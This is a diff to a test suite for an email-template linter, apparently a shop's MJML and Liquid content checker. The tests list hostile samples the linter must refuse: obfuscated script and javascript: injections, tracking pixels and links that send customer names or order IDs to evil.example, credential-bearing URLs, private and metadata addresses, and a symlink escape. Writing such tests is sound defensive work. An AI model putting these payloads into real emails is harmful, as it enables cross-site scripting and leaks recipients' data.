@@ -1,7 +1,8 @@
-import { readFile } from 'node:fs/promises';
+import { readFile, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { lintContent } from '../../shared/email/lint-content.ts';
+import { wrongWithAddress } from '../../shared/email/public-address.ts';
 import { confirmTranslations } from '../../shared/email/translations.ts';
 import { type ContentCopy, copyContent, SHIPPED_CONTENT } from './content-copy.ts';
 
@@ -72,7 +73,7 @@ describe('a text', () => {
     ['heading', 'Is it  working?', /two spaces in a row/u],
     ['heading', 'Is it working ?', /a space before a sign/u],
     ['heading', 'Is it „working“?', /a quotation mark of another language: „; use “ and ”/u],
-    ['heading', 'Look [here](http://shop.example.com/x)', /shows "\]\("; close what was opened, link https only/u],
+    ['heading', 'Look [here](http://shop.example.com/x)', /the link http:\/\/shop\.example\.com\/x is not https/u],
     ['heading', 'Look [here](javascript:alert)', /shows "\]\("/u],
     [
       'heading',
@@ -80,10 +81,59 @@ describe('a text', () => {
       /the link https:\/\/localhost:8080\/x leads to a private machine/u,
     ],
     ['heading', 'Look [here](https://192.168.0.7/x)', /leads to a private machine/u],
+    ['heading', 'Look [here](https://shop.example.com@evil.example/x)', /carries a name or a password/u],
+    [
+      'heading',
+      'Look [here](https://evil.example/?e={{ customer.firstName | default: empty | url_encode }})',
+      /the link \S+\{\{ .*\}\} depends on its reader/u,
+    ],
+    ['heading', 'Look at http://localhost:3000/a', /the link http:\/\/localhost:3000\/a is not https/u],
+    ['heading', 'Look at https://foo.lan.', /the link https:\/\/foo\.lan leads to a private machine/u],
+    [
+      'heading',
+      'Look at https://evil.example/?e={% if customer.firstName %}{{ customer.firstName }}{% endif %}',
+      /the link https:\/\/evil\.example\/\?e= depends on its reader/u,
+    ],
+    [
+      'subject',
+      `{% if customer.firstName %}Is it working?{% else %}${'How do you like it? '.repeat(7)}{% endif %}`,
+      /the subject has 1[34]\d characters.*shorten it to 60/u,
+    ],
+    ['heading', 'Is it \u202dworking?', /an invisible mark of direction/u],
+    ['heading', 'Is it \u200eworking?', /an invisible mark of direction/u],
     ['heading', 'Is it **working?', /shows "\*\*"/u],
   ])('%s “%s” is found', async (key, text, finding) => {
     expect(await withText(key, text)).toEqual([expect.stringMatching(finding)]);
   });
+});
+
+it.each([
+  'https://127.0.0.1/',
+  'https://10.0.0.1/',
+  'https://169.254.169.254/',
+  'https://0x7f.1/',
+  'https://[::1]/',
+  'https://intranet/',
+  'https://foo.lan/',
+  'https://foo.local/',
+  'https://foo.home/',
+  'https://foo.corp/',
+  'https://foo.internal/',
+  'https://app.localhost./',
+])('%s leads to a private machine', (address) => {
+  expect(wrongWithAddress(address)).toBe('leads to a private machine');
+});
+
+it.each(['https://10.example.com/', 'https://localhostess.example/', 'https://shop.example.com./x?a=1&b=2'])(
+  '%s can be linked',
+  (address) => {
+    expect(wrongWithAddress(address)).toBeUndefined();
+  },
+);
+
+it('a text may link an address and write it out', async () => {
+  const text = 'Look [here](https://10.example.com/?a=1&b=2) or open https://localhostess.example/';
+  expect(await withText('heading', text)).toEqual([]);
 });
 
 describe('a hostile template', () => {
@@ -117,7 +167,7 @@ describe('a hostile template', () => {
     [
       'a handler',
       '<mj-text><a href="https://shop.example.com/" onclick="alert(1)">x</a></mj-text>',
-      /holds <a [^;]*onclick/u,
+      /layout\.mjml:1: <a> has onclick="alert\(1\)"/u,
     ],
     ['a link that runs', '<mj-text><a href="javascript:alert(1)">x</a></mj-text>', /javascript:/u],
     ['a link with data', '<mj-text><a href="data:text/html,x">x</a></mj-text>', /data:/u],
@@ -125,17 +175,135 @@ describe('a hostile template', () => {
     [
       'a picture that watches',
       '<mj-image src="https://t.example/p.gif" alt="x" width="1px" />',
-      /too small to be seen/u,
+      /is not one of the shop/u,
     ],
     [
       'a hidden picture',
       '<mj-text><img src="https://t.example/p.gif" alt="x" style="display:none" /></mj-text>',
-      /too small to be seen/u,
+      /is not one of the shop/u,
     ],
     [
       'a picture without words',
       '<mj-image src="https://shop.example.com/p.png" width="100px" />',
       /no text that stands for it/u,
+    ],
+    [
+      'a script for some',
+      "<mj-raw>{% if customer.firstName == 'Maria' %}<script>alert(1)</script>{% endif %}</mj-raw>",
+      /layout\.mjml:1: it holds <script/u,
+    ],
+    ['a handler behind a slash', '<mj-raw><svg/onload=alert(1)></mj-raw>', /layout\.mjml:1: it holds <svg/u],
+    [
+      'a handler for some',
+      '<mj-text><b {% if order %}onclick="alert(1)"{% endif %}>x</b></mj-text>',
+      /<b> has \{% if order %\}onclick=/u,
+    ],
+    [
+      'a link that runs, in single quotes',
+      "<mj-text><a href='javascript:alert(1)'>x</a></mj-text>",
+      /layout\.mjml:1: the link javascript:alert\(1\) is not https/u,
+    ],
+    [
+      'a link that runs, without quotes',
+      '<mj-raw><a href=javascript:alert(1)>x</a></mj-raw>',
+      /the link javascript:alert\(1\) is not https/u,
+    ],
+    [
+      'a link that runs, spelled otherwise',
+      '<mj-text><a href="java&#9;script&colon;alert(1)">x</a></mj-text>',
+      /the link \S+\s\S+ is not https/u,
+    ],
+    [
+      'a link that runs for some',
+      '<mj-text><a href="{% if order %}javascript:alert(1){% else %}https://shop.example.com/{% endif %}">x</a></mj-text>',
+      /depends on its reader/u,
+    ],
+    [
+      'a link that a literal makes',
+      '<mj-text><a href="{{ \'javascript:alert(1)\' }}">x</a></mj-text>',
+      /depends on its reader/u,
+    ],
+    [
+      'a link in capitals',
+      '<mj-text><a HREF="http://localhost:3000/">x</a></mj-text>',
+      /the link http:\/\/localhost:3000\/ is not https/u,
+    ],
+    [
+      'a link that tells who follows it',
+      '<mj-text><a href="https://evil.example/?e={{ customer.firstName | url_encode }}">x</a></mj-text>',
+      /layout\.mjml:1: the link \S+\{\{ .*\}\} depends on its reader/u,
+    ],
+    [
+      'a picture that watches some',
+      '<mj-raw>{% if order %}<img alt="x" src="https://evil.example/p.gif?o={{ order.orderId }}" width="10" height="10">{% endif %}</mj-raw>',
+      /layout\.mjml:1: the picture \S+\{\{ order\.orderId \}\} is not one of the shop/u,
+    ],
+    [
+      'a picture of the shop that watches',
+      '<mj-raw><img alt="x" src="https://shop.example.com/p.gif?o={{ customer.firstName }}"></mj-raw>',
+      /is not one of the shop/u,
+    ],
+    [
+      'a picture that unsubscribes',
+      '<mj-raw><img alt="x" src="{{ unsubscribeUrl }}"></mj-raw>',
+      /is not one of the shop/u,
+    ],
+    [
+      'a picture made small by a style',
+      '<mj-raw><img alt="x" src="https://shop.example.com/p.png" style="width:1px;height:1px"></mj-raw>',
+      /too small to be seen: width:1px/u,
+    ],
+    [
+      'a picture behind a table',
+      '<mj-raw><table background="https://t.example/p.gif"></table></mj-raw>',
+      /layout\.mjml:1: <table> has background=/u,
+    ],
+    [
+      'a picture as a button',
+      '<mj-raw><input type="image" src="https://t.example/p.gif"></mj-raw>',
+      /layout\.mjml:1: it holds <input/u,
+    ],
+    [
+      'pictures to choose from',
+      `<mj-text><div style="background:image-set('https://t.example/p.gif' 1x)">x</div></mj-text>`,
+      /a style holds image-set\(/u,
+    ],
+    [
+      'a style that is spelled otherwise',
+      '<mj-raw><style>p{background:u\\72l(https://t.example/)}</style></mj-raw>',
+      /a style holds /u,
+    ],
+    ['a sheet', '<mj-raw><style>@import "https://t.example/s.css";</style></mj-raw>', /a style holds @import/u],
+    [
+      'a style that only readers see',
+      '<mj-raw>{% if order %}<style>{% endif %}<script>alert(1)</script></style></mj-raw>',
+      /a style holds \{% endif %\}/u,
+    ],
+    ['a name in two parts', '<mj-raw><s{% if order %}cript{% endif %}>x</mj-raw>', /it holds <s\{% if order %\}cript/u],
+    [
+      'a name that is printed',
+      "<mj-raw><{{ 'script' }}>x</mj-raw>",
+      /a tag has no name of its own: <\{\{ 'script' \}\}/u,
+    ],
+    [
+      'a branch that ends its attribute',
+      `<mj-raw><p title='{% if order %}'{% else %}'title='{% endif %}><script>alert(1)</script><p title=''>x</p></mj-raw>`,
+      /title of <p> is not whole/u,
+    ],
+    [
+      'a value that can add attributes',
+      '<mj-raw><p title={{ customer.firstName }}>x</p></mj-raw>',
+      /title of <p> is not whole/u,
+    ],
+    [
+      'a branch within a comment',
+      '<mj-raw>{% if order %}<!--{% endif %}<script>alert(1)</script>--></mj-raw>',
+      /it holds a comment/u,
+    ],
+    [
+      'a script for Outlook',
+      '<mj-raw><!--[if mso]><script>alert(1)</script><![endif]--></mj-raw>',
+      /it holds <script/u,
     ],
     ['a form', '<mj-raw><form action="https://t.example/"></form></mj-raw>', /holds <form/u],
     ['a page inside', '<mj-raw><iframe src="https://t.example/"></iframe></mj-raw>', /holds <iframe/u],
@@ -147,12 +315,12 @@ describe('a hostile template', () => {
     [
       'a picture behind',
       '<mj-text><div style="background:url(https://t.example/p.gif)">x</div></mj-text>',
-      /holds url\(/u,
+      /a style holds url\(/u,
     ],
     [
       'a way elsewhere',
       '<mj-raw><meta http-equiv="refresh" content="0;url=https://t.example/" /></mj-raw>',
-      /http-equiv="refresh"/u,
+      /<meta> has http-equiv="refresh"/u,
     ],
     [
       'a piece from outside',
@@ -160,8 +328,31 @@ describe('a hostile template', () => {
       /lies outside the content|cannot be read/u,
     ],
     ['an attribute MJML does not know', '<mj-text colour="red">x</mj-text>', /Attribute colour is illegal/u],
-    ['a side written out', '<mj-text align="left">x</mj-text>', /align="left" is written out, and wrong in half/u],
-    ['room on one side', '<mj-text><span style="margin-left:8px">x</span></mj-text>', /margin-left is written out/u],
+    ['a side written out', '<mj-text align="left">x</mj-text>', /align="left is written out, and wrong in half/u],
+    ['a side in single quotes', "<mj-text align='left'>x</mj-text>", /align='left is written out/u],
+    ['a direction without quotes', '<mj-raw><p dir=ltr>x</p></mj-raw>', /dir=ltr is written out/u],
+    ['what floats', '<mj-raw><p style="float:left">x</p></mj-raw>', /<p> has the style float:left/u],
+    [
+      'more room on one side',
+      '<mj-text><span style="padding-left:40px;padding-right:0">x</span></mj-text>',
+      /padding-left:40px is written out/u,
+    ],
+    [
+      'a colour by its name',
+      '<mj-text><span style="color:white">x</span></mj-text>',
+      /the colour white is written out/u,
+    ],
+    ['a colour by its name in an attribute', '<mj-text color="white">x</mj-text>', /the colour white is written out/u],
+    [
+      'a colour by its parts',
+      '<mj-text><span style="color:rgb(255,253,250)">x</span></mj-text>',
+      /the colour rgb\( is written out/u,
+    ],
+    [
+      'room on one side',
+      '<mj-text><span style="margin-left:8px">x</span></mj-text>',
+      /margin-left:8px is written out/u,
+    ],
     ['a colour of its own', '<mj-text color="#ff0000">x</mj-text>', /the colour #ff0000 is written out/u],
     [
       'a colour that stays in the dark',
@@ -171,6 +362,25 @@ describe('a hostile template', () => {
   ])('with %s is refused', async (_what, piece, finding) => {
     expect(await withPiece(piece)).toContainEqual(expect.stringMatching(finding));
   });
+});
+
+it('a piece that a symbolic link keeps elsewhere is refused', async () => {
+  const content = await copyContent();
+  await writeFile(join(content.directory, 'secret.mjml'), '<mj-text>secret</mj-text>');
+  await symlink(join(content.directory, 'secret.mjml'), join(content.contentDirectory, 'templates/_shared/piece.mjml'));
+  const layout = await readFile(join(content.contentDirectory, LAYOUT), 'utf8');
+  await content.write(LAYOUT, `<mj-include path="../../_shared/piece.mjml" />\n${layout}`);
+  expect(await told(content)).toContainEqual(
+    expect.stringMatching(/layout\.mjml:1: \S+piece\.mjml lies outside the content/u),
+  );
+});
+
+it('an address of the data that only an office can open is refused', async () => {
+  const content = await copyContent();
+  await content.change('shop.json', 'https://shop.example.com/chat', 'https://chat.internal/');
+  expect(await told(content)).toContainEqual(
+    expect.stringMatching(/shop\.json:\d+: contacts\.chatUrl: expected an address that everybody can open/u),
+  );
 });
 
 describe('another language', () => {
@@ -212,7 +422,7 @@ describe('another language', () => {
 
   it('is older than its source until somebody confirms it, and again when that changes', async () => {
     const content = await persian();
-    const older = async () => (await ofCheckIn(content)).filter((each) => each.startsWith('warning'));
+    const older = async () => (await ofCheckIn(content)).filter((each) => each.includes('older than'));
     expect(await older()).toContainEqual(
       expect.stringMatching(/fa\.json:\d+: "heading" is older than its English source/u),
     );
